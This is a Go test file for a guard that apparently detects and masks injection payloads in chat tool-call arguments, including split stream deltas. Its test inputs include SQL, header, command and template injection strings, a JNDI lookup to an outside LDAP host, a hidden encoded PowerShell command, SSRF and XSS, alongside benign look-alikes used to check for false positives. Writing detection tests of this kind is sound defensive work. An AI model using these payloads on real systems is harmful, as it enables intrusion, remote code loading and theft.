package guard

import (
	"strings"
	"testing"
)

// TestValues holds that what is an attack only as the whole of a value is found in arguments of tools, in a body and in a
// stream wherever deltas part it, and that names, sizes and sentences are none.
func TestValues(t *testing.T) {
	g := load(t, `{"rules":[{"name":"p","match":["SQL_INJECTION"],"minScore":0.8,"action":"Mask","mask":{"style":"Label"}}]}`)
	d := &dialect{path: "/v1/chat/completions", contentType: "text/event-stream"}
	const label = "[SQL_INJECTION]"
	for _, c := range []struct{ in, want string }{
		{`{"q":"A' NOT RLIKE 'B"}`, `{"q":"A` + label + `"}`},
		{`{"q":"x\" sounds like \"y","n":1}`, `{"q":"x` + label + `","n":1}`},
		{`{"a":["ok","7 || substr(user,1,1) = 0x61"]}`, `{"a":["ok","` + label + `"]}`},
		{`["' / 1 / 1 ='", "12"]`, `["` + label + `", "12"]`},
		{`{"name":"O'Brien","size":"16\" or 18\"","q":"'yes' or 'no'"}`, ""},
		{`{"q":"say 'a' or 'b', and 1 or 2","r":"rock 'n' roll","s":"the boys' and girls' club"}`, ""},
		{`{"sql":"SELECT name FROM users WHERE city = 'Berlin' OR city = 'Bonn'"}`, ""},
	} {
		if c.want == "" {
			c.want = c.in
		}
		if got := wholeArguments(t, g, c.in); got != c.want {
			t.Errorf("%s became %s, want %s", c.in, got, c.want)
		}
		stream := func(deltas ...string) {
			t.Helper()
			out, _ := streamed(t, g, d, userMail, argumentStream(deltas...))
			if got := calls(t, out); got != c.want {
				t.Fatalf("%q became %s, want %s", deltas, got, c.want)
			}
		}
		stream(c.in)
		for cut := 1; cut < len(c.in); cut++ {
			stream(c.in[:cut], c.in[cut:])
		}
		stream(strings.Split(c.in, "")...)
	}
}

// TestCodeInStreams holds that what is code in an argument is masked alike in a body and in a stream, wherever deltas part it, and that
// what reads a little like it passes.
func TestCodeInStreams(t *testing.T) {
	g := load(t, `{"rules":[{"name":"p","match":["payloads"],"minScore":0.8,"action":"Mask","mask":{"style":"Label"}}]}`)
	d := &dialect{path: "/v1/chat/completions", contentType: "text/event-stream"}
	for in, label := range map[string]string{
		`{"host":"x%0d%0aSet-Cookie: a=b"}`:                "[HEADER_INJECTION]",
		`{"to":"a@example.com\nBcc: b@example.com","n":1}`: "[HEADER_INJECTION]",
		`{"next":"//evil.example.com/%2e%2e"}`:             "[SSRF]",
		`{"url":"http://①②⑦.⓪.⓪.①/x","n":1}`:               "[SSRF]",
		`{"u":"admin)(&)"}`:                                "[SQL_INJECTION]",
		`{"f":"c=cat;$c x"}`:                               "[COMMAND_INJECTION]",
		`{"f":"powershell -nop -w hidden -enc SQBFAFgA"}`:  "[COMMAND_INJECTION]",
		`{"f":"${${lower:j}ndi:ldap://203.0.113.9/a}"}`:    "[TEMPLATE_INJECTION]",
		`{"t":"window['al'+'ert'](1)"}`:                    "[XSS]",
		`{"name":"AT&T; Johnson & Johnson","q":"// a comment","w":"name|id|email","v":"Meeting\r\nLocation: Room 5"}`: "",
	} {
		want := wholeArguments(t, g, in)
		if (want == in) != (label == "") || !strings.Contains(want, label) {
			t.Errorf("%s became %s, want %s", in, want, label)
		}
		for cut := range in {
			out, _ := streamed(t, g, d, userMail, argumentStream(in[:cut], in[cut:]))
			if got := calls(t, out); got != want {
				t.Errorf("%q, %q became %s, want %s", in[:cut], in[cut:], got, want)
				break
			}
		}
	}
}
